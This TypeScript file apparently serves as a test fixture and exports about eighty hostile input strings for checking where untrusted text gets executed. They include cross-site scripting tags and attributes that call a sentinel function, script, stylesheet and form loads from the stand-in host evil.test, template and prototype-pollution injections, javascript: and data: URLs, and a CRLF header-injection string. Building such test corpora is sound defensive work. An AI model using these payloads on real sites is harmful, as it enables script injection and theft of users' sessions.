// Texts that are more than texts to whoever takes them for markup, a template, an address or a style: for each field of
// a call, and for whatever a page reads from elsewhere.

const TAGS = [
  '<script>gcgFell()</script>',
  '"><script>gcgFell()</script>',
  `'><script>gcgFell()</script>`,
  '</script><script>gcgFell()</script>',
  '<ScRiPt src=//evil.test/x.js></ScRiPt>',
  '<img src=x onerror=gcgFell()>',
  '"><img src=x onerror=gcgFell()>',
  '<img src=x:x onerror="gcgFell()"//',
  '<svg onload=gcgFell()>',
  '<svg><script>gcgFell()</script></svg>',
  '<svg><animate onbegin=gcgFell() attributeName=x dur=1s>',
  '<svg/onload=gcgFell()//',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=gcgFell()>',
  '<iframe src="javascript:gcgFell()"></iframe>',
  '<iframe srcdoc="<script>parent.gcgFell()</script>"></iframe>',
  '<object data="javascript:gcgFell()"></object>',
  '<embed src="data:text/html,<script>gcgFell()</script>">',
  '<body onload=gcgFell()>',
  '<details open ontoggle=gcgFell()>',
  '<video><source onerror=gcgFell()></video>',
  '<audio src onerror=gcgFell()>',
  '<input autofocus onfocus=gcgFell()>',
  '<select autofocus onfocus=gcgFell()>',
  '<marquee onstart=gcgFell()>',
  '<meta http-equiv=refresh content="0;url=javascript:gcgFell()">',
  '<base href="//evil.test/">',
  '<link rel=stylesheet href="//evil.test/x.css">',
  '<style>*{display:none}</style>',
  '<form action="//evil.test/"><button>go</button></form>',
  '<a href="javascript:gcgFell()">x</a>',
  '<x-gcg></x-gcg>',
  '<template><img src=x onerror=gcgFell()></template>',
  '<noscript><p title="</noscript><img src=x onerror=gcgFell()>">',
  '<textarea></textarea><img src=x onerror=gcgFell()>',
  '<!--<img src="--><img src=x onerror=gcgFell()//">',
  '<![CDATA[<img src=x onerror=gcgFell()>]]>',
  '<?xml version="1.0"?><x onload=gcgFell()/>',
  '<%= gcgFell() %>',
  '<isindex type=image src=1 onerror=gcgFell()>',
  '<dialog open>x</dialog>',
];

const ATTRIBUTES = [
  '" onmouseover="gcgFell()',
  `' onmouseover='gcgFell()`,
  '` onmouseover=`gcgFell()',
  '"autofocus onfocus="gcgFell()',
  '" style="position:fixed;inset:0',
  '"/onclick=gcgFell()//',
  '" href="javascript:gcgFell()',
  '&quot; onclick=&quot;gcgFell()',
  '&#34;&#62;&#60;script&#62;',
  '&lt;img src=x onerror=gcgFell()&gt;',
];

const ADDRESSES = [
  'javascript:gcgFell()',
  'JaVaScRiPt:gcgFell()',
  'java\tscript:gcgFell()',
  ' javascript:gcgFell()',
  'data:text/html,<script>gcgFell()</script>',
  'data:text/html;base64,PHNjcmlwdD5nY2dGZWxsKCk8L3NjcmlwdD4=',
  'vbscript:msgbox(1)',
  '//evil.test/',
  'https://evil.test/#/calls',
  '\\\\evil.test\\x',
  'blob:https://evil.test/1',
  'filesystem:https://evil.test/x',
];

const TEMPLATES = [
  '{{constructor.constructor("gcgFell()")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant to stay one
  '${gcgFell()}',
  '#{gcgFell()}',
  '<!--?lit$123456789$-->',
  '?lit$123456789$',
  'lit$123456789$',
  '<?lit$123456789$>',
  '__proto__',
  'constructor',
  'url(javascript:gcgFell())',
  'expression(gcgFell())',
  '*/}body{display:none}/*',
  '@import "//evil.test/x.css";',
];

const CHARACTERS = [
  'a\u2028b\u2029c',
  'a\u0000b',
  '\u202egnp.exe\u202c',
  '\u2066x\u2069',
  '\ufeffx',
  '\u001b[31mred\u001b[0m',
  'a\r\nSet-Cookie: x=y',
  '\ud800 half',
  '\u0300\u0301\u0302\u0303'.repeat(40),
  'x'.repeat(4000),
];

/** About eighty texts. `gcgFell` is called where one of them runs. */
export const HOSTILE_TEXTS: readonly string[] = [...TAGS, ...ATTRIBUTES, ...ADDRESSES, ...TEMPLATES, ...CHARACTERS];
